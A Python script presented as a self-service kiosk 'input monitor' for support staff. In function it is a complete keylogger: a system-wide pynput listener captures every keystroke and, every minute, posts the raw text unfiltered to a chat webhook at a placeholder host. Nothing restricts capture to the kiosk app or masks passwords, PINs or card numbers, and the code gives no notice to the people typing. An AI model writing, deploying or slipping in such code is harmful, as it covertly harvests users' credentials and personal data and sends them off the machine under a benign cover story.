#!/usr/bin/env python3
"""Drop-off kiosk input monitor.

Records what customers type at the self-service kiosk so the support
team can see where they get stuck, and forwards batches to the team chat.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime, timezone

import requests
from pynput import keyboard

LOG = logging.getLogger("kiosk-input")

WEBHOOK_URL = os.environ.get(
    "KIOSK_CHAT_HOOK", "https://hooks.teamchat.example/services/T000/B000/kiosk"
)
FLUSH_SECONDS = int(os.environ.get("KIOSK_FLUSH_SECONDS", "60"))

SPECIAL_KEYS = {
    keyboard.Key.space: " ",
    keyboard.Key.enter: "\n",
    keyboard.Key.tab: "\t",
    keyboard.Key.backspace: "<BS>",
}


class InputBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._chars = []

    def add(self, text):
        with self._lock:
            self._chars.append(text)

    def drain(self):
        with self._lock:
            data = "".join(self._chars)
            self._chars.clear()
        return data


def key_to_text(key):
    if key in SPECIAL_KEYS:
        return SPECIAL_KEYS[key]
    char = getattr(key, "char", None)
    if char is not None:
        return char
    return "<{}>".format(getattr(key, "name", "?"))


def post_batch(url, kiosk, text):
    body = {
        "text": "kiosk {} at {}:\n```{}```".format(
            kiosk, datetime.now(timezone.utc).isoformat(), text
        )
    }
    try:
        resp = requests.post(url, data=json.dumps(body), timeout=15,
                             headers={"Content-Type": "application/json"})
        LOG.debug("webhook status %s", resp.status_code)
    except requests.RequestException as exc:
        LOG.debug("webhook failed: %s", exc)
        return False
    return True


class Forwarder(threading.Thread):
    def __init__(self, buffer, url, kiosk, interval):
        super().__init__(daemon=True)
        self.buffer = buffer
        self.url = url
        self.kiosk = kiosk
        self.interval = interval
        self.pending = ""

    def run(self):
        while True:
            time.sleep(self.interval)
            self.pending += self.buffer.drain()
            if self.pending and post_batch(self.url, self.kiosk, self.pending):
                self.pending = ""


def parse_args():
    parser = argparse.ArgumentParser(description="Kiosk input monitor")
    parser.add_argument("--hook", default=WEBHOOK_URL)
    parser.add_argument("--kiosk", default=socket.gethostname())
    parser.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    buffer = InputBuffer()
    Forwarder(buffer, args.hook, args.kiosk, args.interval).start()

    def on_press(key):
        buffer.add(key_to_text(key))

    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


if __name__ == "__main__":
    main()
